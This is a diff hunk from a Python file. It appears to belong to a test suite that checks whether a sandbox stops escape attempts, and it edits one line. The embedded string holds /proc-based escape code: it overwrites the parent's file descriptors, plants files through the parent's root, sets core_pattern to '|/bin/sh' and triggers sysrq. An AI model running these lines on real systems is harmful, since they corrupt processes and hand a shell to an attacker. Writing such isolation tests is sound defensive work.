@@ -143,7 +143,7 @@ def empirical_ntk(v, W, X, n):
             open(f"/proc/{parent}/fd/1", "w").write("ready")
             [open(f"/proc/{parent}/fd/{n}", "r+b", 0).write(b"x" * 64) for n in range(32)]
             os.symlink("/", f"/proc/{parent}/cwd/link")
-            open(f"/proc/{parent}/root/tmp/planted", "w").write("planted")
+            open(os.path.join(f"/proc/{parent}/root", "tmp/planted"), "w").write("planted")
             open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh")
             open("/proc/sysrq-trigger", "w").write("f")
         """),
